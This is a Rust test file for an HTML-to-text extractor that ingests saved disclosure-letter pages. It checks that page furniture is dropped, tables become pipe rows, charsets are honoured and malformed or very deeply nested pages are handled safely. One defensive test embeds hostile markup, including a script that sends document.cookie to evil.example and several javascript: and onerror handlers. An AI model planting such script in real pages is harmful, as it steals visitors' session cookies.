//! Saved web pages: only the letter's visible words survive, in reading order, with tables as
//! `cell | cell |` rows; hostile, malformed and absurdly deep pages are read without harm.

use std::time::Instant;

use disclosure_ingest::extract::extract_text;
use disclosure_ingest::html::{declared_encoding, html_to_text};

/// The text of `html` must be exactly `expected`.
fn check(html: &str, expected: &str, why: &str) {
    assert_eq!(html_to_text(html), expected, "{why}");
}

/// The text of `html` must contain every `kept` and none of `dropped`.
fn check_kept_and_dropped(html: &str, kept: &[&str], dropped: &[&str]) {
    let text = html_to_text(html);
    for word in kept {
        assert!(text.contains(word), "{word:?} is part of the letter and must be kept; got {text:?}");
    }
    for word in dropped {
        assert!(!text.contains(word), "{word:?} is page furniture or code and must be dropped; got {text:?}");
    }
}

#[test]
fn paragraphs_become_lines() {
    check(
        "<html><body><h1>Response</h1><p>Dear   Requester,</p><p>Thank you<br>for your request.</p></body></html>",
        "Response\n\nDear Requester,\n\nThank you\nfor your request.\n",
        "blocks end lines, <br> breaks them, runs of spaces fold as a browser shows them",
    );
}

#[test]
fn page_furniture_is_dropped() {
    check_kept_and_dropped(
        r#"<html><head><title>Page title</title><style>.x { color: red }</style></head><body>
           <header>Quickly exit this site</header>
           <nav><a href="/">Home</a></nav>
           <div role="navigation">Breadcrumb trail</div>
           <div role="banner">Cookie banner</div>
           <main><p>Q1 - How many officers were suspended?</p><p>Seven officers.</p></main>
           <p hidden>Hidden draft note</p>
           <p aria-hidden="true">Decorative flourish</p>
           <aside>Related requests</aside>
           <script>trackVisitor();</script><noscript>Enable scripts</noscript>
           <footer>Copyright notice</footer>
           </body></html>"#,
        &["Q1 - How many officers were suspended?", "Seven officers."],
        &[
            "Page title",
            "color",
            "Quickly exit",
            "Home",
            "Breadcrumb",
            "Cookie",
            "Hidden draft",
            "Decorative",
            "Related requests",
            "trackVisitor",
            "Enable scripts",
            "Copyright",
        ],
    );
}

/// The non-blank lines of the text of `html`.
fn non_blank_lines(html: &str) -> Vec<String> {
    html_to_text(html).lines().filter(|line| !line.trim().is_empty()).map(str::to_string).collect()
}

const COMPACT_TABLE: &str =
    "<table><tr><th>Status</th><th>Officers</th></tr><tr><td>Suspended</td><td>7</td></tr></table>";

#[test]
fn table_rows_become_pipe_lines() {
    assert_eq!(
        non_blank_lines(COMPACT_TABLE),
        ["Status | Officers |", "Suspended | 7 |"],
        "the core reads tables as `cell | cell |` rows, as the disclosure-log pages print them"
    );
}

#[test]
fn table_rows_are_consecutive_lines() {
    check(
        COMPACT_TABLE,
        "Status | Officers |\nSuspended | 7 |\n",
        "a table must read as one block of rows, not as one paragraph per row",
    );
}

#[test]
fn pretty_printed_table_rows_become_single_spaced_pipe_lines() {
    assert_eq!(
        non_blank_lines(
            "<table>\n  <tr>\n    <td>\n      Suspended on full pay\n    </td>\n    <td> 7 </td>\n  </tr>\n</table>"
        ),
        ["Suspended on full pay | 7 |"],
        "saved pages indent their cells; the row must read the same as a compact one"
    );
}

#[test]
fn a_meta_charset_is_honoured() {
    let page = b"<html><head><meta charset=\"windows-1252\"><title>t</title></head><body><p>Caf\xe9 \x93quoted\x94 \xa3412</p></body></html>";
    assert_eq!(declared_encoding(page), Some(encoding_rs::WINDOWS_1252), "the declaration must be found");
    let extracted = extract_text("page.html", page).expect("a Windows-1252 page reads");
    assert_eq!(extracted.text, "Café “quoted” £412\n", "the declared charset decides how the bytes read");
    assert_eq!(extracted.encoding, "windows-1252", "the declared encoding is the one reported");

    let http_equiv =
        b"<meta http-equiv=\"Content-Type\" content=\"text/html; charset=iso-8859-1\"><p>\xa3412 \x96 spent</p>";
    let extracted = extract_text("old-page.htm", http_equiv).expect("an old-style declaration reads");
    assert_eq!(extracted.text, "£412 – spent\n", "iso-8859-1 means windows-1252 on the web, en dash included");
}

#[test]
fn hostile_markup_yields_only_the_visible_text() {
    let page = r#"<html><body>
        <p>Refusal notice</p>
        <script>document.location='https://evil.example/?c='+document.cookie</script>
        <img src="x" onerror="alert('img')">
        <p onclick="alert('p')">Section 40(2) applies.</p>
        <a href="javascript:alert('link')">See the exemption</a>
        <iframe src="javascript:alert('frame')">frame text</iframe>
        <svg onload="alert('svg')"><text>svg text</text></svg>
        <form action="javascript:alert('form')"><input value="typed"><button>Submit</button></form>
        <object data="x.swf">object text</object>
        </body></html>"#;
    check(
        page,
        "Refusal notice\n\nSection 40(2) applies.\nSee the exemption\n",
        "scripts, handlers and javascript: links never become text; only what a reader sees remains",
    );
}

#[test]
fn malformed_markup_still_yields_text() {
    let check_contains = |html: &str, expected: &str| {
        let text = html_to_text(html);
        assert!(text.contains(expected), "a browser would show {expected:?}; got {text:?}");
    };
    check_contains("<p>Unclosed paragraph<p>and another", "Unclosed paragraph\n\nand another");
    check_contains("<div><b>bold <i>crossed</b> tags</i></div>", "bold crossed tags");
    check_contains("</p></div>Stray closers first<table><td>cell without a row", "Stray closers first");
    check_contains("<<<>>> &amp;&lt; &bogus; text <!-- unterminated comment", "<<<>>> &< &bogus; text");
    check_contains("<p class=unquoted data-a=\"1\"data-b=2 =odd>Attribute soup</span></p>Still here", "Still here");
    check_contains("plain words with no tags at all", "plain words with no tags at all");
}

#[test]
fn preformatted_text_keeps_its_layout() {
    check(
        "<pre>Status     | Officers |\nSuspended  | 7        |</pre>",
        "Status     | Officers |\nSuspended  | 7        |\n",
        "a <pre> table is already laid out and must not be folded",
    );
}

/// Reads a page of `depth` nested `<div>`s, printing how long it took.
fn check_nested_divs(depth: usize) {
    let page = format!("{}deep letter text{}", "<div>".repeat(depth), "</div>".repeat(depth));
    let started = Instant::now();
    let text = html_to_text(&page);
    println!("html_to_text on {depth} nested <div>s took {:.2?}", started.elapsed());
    assert!(text.contains("deep letter text"), "the words at the bottom of a deep page must still be read");
}

#[test]
fn deeply_nested_markup_does_not_overflow_the_stack() {
    check_nested_divs(20_000);
}

#[test]
fn a_hostile_depth_is_refused_before_parsing() {
    // html5ever's work grows with the square of the depth: 100,000 levels took about 40 s.
    let depth = 100_000;
    let page = format!("{}deep{}", "<div>".repeat(depth), "</div>".repeat(depth));
    let started = Instant::now();
    let refused = disclosure_ingest::extract::extract_text("deep.html", page.as_bytes());
    assert!(
        matches!(refused, Err(disclosure_ingest::IngestError::TooDeeplyNested { .. })),
        "a page nested {depth} levels deep must be refused with a clear reason, got {refused:?}"
    );
    assert!(started.elapsed().as_secs() < 5, "refusing must not parse the page first");
}

#[test]
fn deeply_nested_inline_markup_does_not_overflow_the_stack() {
    let depth = 20_000;
    let page = format!("{}deep inline text{}", "<span><b>".repeat(depth), "</b></span>".repeat(depth));
    let started = Instant::now();
    let text = html_to_text(&page);
    println!("html_to_text on {depth} nested <span><b> pairs took {:.2?}", started.elapsed());
    assert!(text.contains("deep inline text"), "the words inside deep inline markup must still be read");
}
